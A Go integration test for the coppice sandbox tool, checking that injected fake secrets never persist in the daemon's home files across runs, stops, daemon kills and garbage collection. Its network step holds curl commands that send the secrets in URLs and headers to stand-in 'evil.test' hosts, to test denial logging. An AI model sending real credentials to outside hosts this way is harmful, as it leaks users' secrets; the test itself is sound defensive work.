//go:build linux

package cli_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coppice-dev/coppice/client"
	"github.com/coppice-dev/coppice/internal/daemon"
)

// TestHome_ContainsNoSecrets gives sandboxes secrets in every way, has them use the secrets in every way, and
// searches all files of the home: while the sandboxes run, when they are stopped, after the daemon was killed, and
// after gc. Files that a sandbox wrote are excluded.
func TestHome_ContainsNoSecrets(t *testing.T) {
	t.Parallel()
	for _, driver := range []string{"overlay", "copy"} {
		t.Run("process "+driver, func(t *testing.T) {
			t.Parallel()
			d := newDesk(t)
			newHoard(t, d, d.try, "process", driver).play()
		})
		t.Run("supervised "+driver, func(t *testing.T) {
			t.Parallel()
			l := newLab(t)
			l.trusted()
			newHoard(t, l.desk, l.try, "supervised", driver).play()
		})
	}
}

// trusted makes the daemon's host trust the lab's authority, so that the gate can inspect requests over TLS.
func (l *lab) trusted() {
	l.t.Helper()
	all, err := os.ReadFile(systemCAs)
	if err != nil {
		l.t.Skip("needs authorities: to trust one more")
	}
	ca, err := os.ReadFile(filepath.Join(l.root, "ca.pem"))
	if err != nil {
		l.t.Fatal(err)
	}
	bundle := l.write("bundle.pem", string(all)+string(ca))
	if out, err := exec.Command(l.into[0], append(slices.Clone(l.into[1:]), "mount", "--bind", bundle, systemCAs)...).
		CombinedOutput(); err != nil {
		l.t.Fatalf("%v: %s", err, out)
	}
}

// hoard is a sandbox with secrets.
type hoard struct {
	t            *testing.T
	d            *desk
	try          func(args ...string) (string, error)
	tier, driver string
	secrets      map[string]string // by kind
}

const hoarder = "hoarder"

func newHoard(t *testing.T, d *desk, try func(...string) (string, error), tier, driver string) *hoard {
	h := &hoard{t: t, d: d, try: try, tier: tier, driver: driver, secrets: map[string]string{}}
	for _, of := range []string{"sandbox", "exec", "policy", "run", "body"} {
		h.secrets[of] = "s" + strings.ToLower(rand.Text()[:20]) + "7"
	}
	for _, of := range []string{"token", "label"} {
		h.secrets[of] = "ghp_" + (rand.Text() + rand.Text())[:36]
	}
	return h
}

// play does everything with the sandbox, and searches the home after each step.
func (h *hoard) play() {
	h.make()
	h.t.Cleanup(func() { h.try("rm", "--force", hoarder) })
	h.commands()
	h.answers()
	h.supervised()
	h.names()
	if h.tier == "supervised" {
		h.network()
	}
	h.look("while it runs")
	h.run("stop", hoarder)
	h.look("stopped")
	h.run("exec", hoarder, "--env", "SESSION_KEY="+h.secrets["exec"], "--", "true")
	h.d.killDaemon()
	h.look("after the daemon was killed")
	h.shown()
	h.run("system", "gc")
	h.look("after gc")
	h.run("system", "verify")
}

func (h *hoard) run(args ...string) string {
	h.t.Helper()
	out, err := h.try(args...)
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			out += string(ee.Stderr)
		}
		h.t.Fatalf("coppice %q: %v: %s", args, err, out)
	}
	return out
}

func (h *hoard) make() {
	file := filepath.Join(h.t.TempDir(), "policy.yaml")
	text := "version: 1\nenv:\n  SERVICE_PASSWORD: " + h.secrets["policy"] + "\n"
	if h.tier == "supervised" {
		text += "network:\n  allow:\n    - {host: plain.lab.test, ports: [80], methods: [GET, POST]}\n    - {host: " +
			"git.lab.test, methods: [GET]}\n    - www.lab.test\n"
	}
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		h.t.Fatal(err)
	}
	from := "host"
	if h.driver == "copy" {
		from = h.base()
	}
	h.run("create", hoarder, "--from", from, "--no-repo", "--tier", h.tier, "--driver", h.driver, "--policy", file,
		"--env", "API_TOKEN="+h.secrets["sandbox"], "--env", "PATH")
}

// base creates a root file system with the programs that the test uses.
func (h *hoard) base() string {
	dir := h.t.TempDir()
	give := func(f string) {
		b, err := os.ReadFile(f)
		if err == nil {
			err = os.MkdirAll(filepath.Dir(dir+f), 0o755)
		}
		if err == nil {
			err = os.WriteFile(dir+f, b, 0o755)
		}
		if err != nil {
			h.t.Fatal(err)
		}
	}
	for _, name := range []string{"sh", "bash", "env", "mkdir", "ln", "chmod", "base64", "od", "tr", "sleep", "date",
		"cat", "test", "true", "false", "curl"} {
		f, err := exec.LookPath(name)
		if err != nil {
			h.t.Skipf("needs %s: to be in a base", name)
		}
		for _, lib := range libraries(f) {
			give(lib)
		}
		give(f)
	}
	if err := os.Symlink("usr/bin", dir+"/bin"); err != nil && !os.IsExist(err) {
		h.t.Fatal(err)
	}
	for _, name := range []string{"root", "tmp", "dev", "proc", "sys", "run"} {
		if err := os.MkdirAll(filepath.Join(dir, name), 0o755); err != nil {
			h.t.Fatal(err)
		}
	}
	for _, f := range []string{"/etc/passwd", "/etc/group", "/etc/nsswitch.conf", "/etc/resolv.conf"} {
		give(f)
	}
	return dir
}

// commands prints secrets, whole and character by character, and uses them as arguments and in the names of files,
// directories and programs.
func (h *hoard) commands() {
	pieces := ""
	for _, of := range []string{"sandbox", "policy", "exec", "token", "label"} { // the values known as secrets so far
		for _, c := range h.secrets[of] {
			pieces += "printf %s " + string(c) + "; "
		}
		pieces += "echo; "
	}
	for _, script := range []string{
		`echo "$API_TOKEN $SERVICE_PASSWORD $SESSION_KEY"; env; env >&2`,
		pieces,
		fmt.Sprintf("mkdir -p ~/%s/%s; echo %s >~/%s/%s/f; ln -s %s ~/link-%s", h.secrets["token"], h.secrets["exec"],
			h.secrets["sandbox"], h.secrets["token"], h.secrets["exec"], h.secrets["policy"], h.secrets["sandbox"]),
		fmt.Sprintf("true %s --password %s %s", h.secrets["exec"], h.secrets["policy"], h.secrets["token"]),
		fmt.Sprintf("echo '#!/bin/sh' >~/p%s; chmod +x ~/p%[1]s; ~/p%[1]s %s", h.secrets["sandbox"], h.secrets["token"]),
		fmt.Sprintf("echo %s | base64; echo %s | od -An -tx1 | tr -d ' \\n'", h.secrets["sandbox"], h.secrets["policy"]),
	} {
		h.run("exec", hoarder, "--env", "SESSION_KEY="+h.secrets["exec"], "--", "sh", "-c", script)
	}
	h.try("exec", hoarder, "--workdir", "/"+h.secrets["sandbox"], "--", "true")
	h.try("exec", hoarder, "--", "no-"+h.secrets["sandbox"], h.secrets["token"])
	h.run("tournament", hoarder, "--test", "test -e ~/a"+h.secrets["sandbox"], "--",
		"echo "+h.secrets["token"]+" >~/a"+h.secrets["sandbox"], "false "+h.secrets["policy"])
}

// answers sends HTTP requests with an idempotency key, for which the response is stored.
func (h *hoard) answers() {
	c := &http.Client{
		Transport: &http.Transport{DisableKeepAlives: true,
			DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return client.DialSocket(ctx, daemon.SocketPath(h.d.dir))
			}}}
	post := func(path, body string) {
		h.t.Helper()
		req, err := http.NewRequestWithContext(h.t.Context(), http.MethodPost, "http://coppice/v1/sandboxes"+path,
			strings.NewReader(body))
		if err != nil {
			h.t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Idempotency-Key", "key-"+h.secrets["body"])
		res, err := c.Do(req)
		if err != nil {
			h.t.Fatal(err)
		}
		defer res.Body.Close()
		if b, err := io.ReadAll(res.Body); err != nil || res.StatusCode/100 != 2 {
			h.t.Fatalf("%s: %s %s, %v", path, res.Status, b, err)
		}
	}
	post("/"+hoarder+"/exec",
		fmt.Sprintf(`{"cmd":["sh","-c","echo $X_SECRET %s"],"env":["X_SECRET=%s"]}`, h.secrets["sandbox"], h.secrets["body"]))
	post("", fmt.Sprintf(`{"name":"other","env":["X_SECRET=%s"]}`, h.secrets["body"]))
	h.run("rm", "--force", "other")
}

// supervised leaves a supervised command running, and one that the line protocol started.
func (h *hoard) supervised() {
	h.run("run", "--in", hoarder, "--detach", "--env", "RUN_KEY="+h.secrets["run"], "--", "sh", "-c",
		fmt.Sprintf("echo $RUN_KEY >~/f%s; echo up; exec sleep 1000 # %s", h.secrets["run"], h.secrets["token"]))
	at := strings.TrimSpace(h.run("system", "socket", hoarder))
	conn, err := client.DialSocket(h.t.Context(), at)
	if err != nil {
		h.t.Fatal(err)
	}
	defer conn.Close()
	if _, err := fmt.Fprintf(conn, "{\"op\":\"spawn\",\"cmd\":\"echo %s %s; sleep 1000\"}\n", h.secrets["sandbox"],
		h.secrets["token"]); err != nil {
		h.t.Fatal(err)
	}
	if line, err := readLine(conn); err != nil || !strings.Contains(line, `"ok":true`) {
		h.t.Fatalf("%s, %v", line, err)
	}
	if !slices.ContainsFunc(h.files(), func(f string) bool { return filepath.Base(f) == "spawned.json" }) {
		h.t.Error("spawned.json does not exist: the test has no effect")
	}
}

func readLine(r io.Reader) (string, error) {
	var line []byte
	for b := make([]byte, 1); ; {
		if _, err := r.Read(b); err != nil || b[0] == '\n' {
			return string(line), err
		}
		line = append(line, b[0])
	}
}

// names uses secrets where users name things. A value with a known format is redacted, and a tag is refused.
func (h *hoard) names() {
	h.run("snapshot", "mark", hoarder, "begin", "marked "+h.secrets["label"])
	h.run("exec", hoarder, "-m", "told "+h.secrets["label"]+" "+h.secrets["sandbox"], "--", "sh", "-c", "date >~/named")
	h.run("snapshot", "create", hoarder, "-m", "committed "+h.secrets["label"])
	h.run("snapshot", "mark", hoarder, "end", "ended "+h.secrets["label"])
	if out, err := h.try("snapshot", "tag", hoarder, h.secrets["sandbox"]); err == nil {
		h.t.Errorf("a secret was accepted as a tag: %s", out)
	}
	h.run("fork", hoarder, "forked")
	h.run("exec", "forked", "--", "sh", "-c", "echo "+h.secrets["sandbox"]+" >~/x"+h.secrets["exec"])
	h.run("rm", "--force", "forked")
	h.run("undo", hoarder)
	h.try("redo", hoarder)
}

// network sends secrets as parts of addresses, headers and names, to allowed and to denied destinations.
func (h *hoard) network() {
	s := h.secrets
	out := h.run("exec", hoarder, "--env", "SESSION_KEY="+s["exec"], "--", "bash", "-c", strings.Join([]string{
		"exec 2>&1",
		"curl -sSk 'http://plain.lab.test/hello?token=" + s["exec"] + "&x=" + s["token"] + "' -H 'Authorization: Bearer " +
			s["sandbox"] + "' -H 'X-Any: " + s["policy"] + "'",
		"curl -sSk 'https://git.lab.test/hello/" + s["sandbox"] + "' -H 'Cookie: " + s["exec"] + "'",
		"curl -sSk -X DELETE 'https://git.lab.test/" + s["token"] + "'",
		"curl -sSk 'https://user:" + s["exec"] + "@www.lab.test/'",
		"curl -sSk 'http://" + s["sandbox"] + ".evil.test/'",
		"curl -sSk 'https://" + s["exec"] + ".evil.test/" + s["token"] + "'",
		"true",
	}, "; "))
	var told string
	for end := time.Now().Add(patience); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if told = h.run("ledger", "show", hoarder, "--kind", "network", "--json"); strings.Contains(told, "evil.test") &&
			strings.Contains(told, "/hello") {
			return
		}
	}
	h.t.Errorf("the requests are not recorded: %s\n%s", out, told)
}

// shown verifies that the values are unchanged where the user needs them.
func (h *hoard) shown() {
	out := h.run("exec", hoarder, "--", "sh", "-c",
		`echo "$API_TOKEN $SERVICE_PASSWORD"; cat ~/`+h.secrets["token"]+"/*/f")
	if out != h.secrets["sandbox"]+" "+h.secrets["policy"]+"\n"+h.secrets["sandbox"]+"\n" {
		h.t.Errorf("the sandbox printed %q", out)
	}
	if out := h.run("policy", "show", hoarder); !strings.Contains(out, h.secrets["policy"]) {
		h.t.Errorf("policy show printed %s", out)
	}
}

// files lists the files of the home that no sandbox wrote. A mask has only empty files and directories, some of which
// cannot be opened.
func (h *hoard) files() (list []string) {
	theirs := []string{"layers/*/fs", "layers/*/manifest", "layers/*/manifest.tmp", "sandboxes/*/live",
		"sandboxes/*/index.*", "masks/*"}
	err := filepath.WalkDir(h.d.dir, func(name string, e fs.DirEntry, err error) error {
		if os.IsNotExist(err) {
			return nil // removed meanwhile
		}
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(h.d.dir, name)
		if err != nil {
			return err
		}
		for _, p := range theirs {
			if is, err := filepath.Match(p, rel); err != nil || is {
				if e.IsDir() {
					return fs.SkipDir
				}
				return err
			}
		}
		list = append(list, rel)
		return nil
	})
	if err != nil {
		h.t.Fatal(err)
	}
	return list
}

// look verifies that no file has a secret, plain or encoded.
func (h *hoard) look(when string) {
	h.t.Helper()
	forms := map[string][]string{}
	for of, s := range h.secrets {
		forms[of] = []string{s, hex.EncodeToString([]byte(s)), url.QueryEscape(s)}
		for cut := range 3 {
			b := base64.StdEncoding.EncodeToString([]byte(s[cut:]))
			forms[of] = append(forms[of], b[:len(b)-4])
		}
	}
	n := 0
	for _, name := range h.files() {
		text := []byte(name)
		if st, err := os.Lstat(filepath.Join(h.d.dir, name)); err == nil && st.Mode().IsRegular() {
			b, err := os.ReadFile(filepath.Join(h.d.dir, name))
			if err != nil && !os.IsNotExist(err) {
				h.t.Fatal(err)
			}
			text = append(text, b...)
			n += len(b)
		}
		lower := bytes.ToLower(text)
		for of, list := range forms {
			for _, f := range list {
				if i := bytes.Index(lower, []byte(strings.ToLower(f))); i >= 0 {
					h.t.Errorf("%s: the secret %q is in %s: %q", when, of, name,
						text[max(0, i-100):min(len(text), i+len(f)+20)])
				}
			}
		}
	}
	if n < 50_000 {
		h.t.Errorf("%s: only %d bytes were searched", when, n)
	}
}
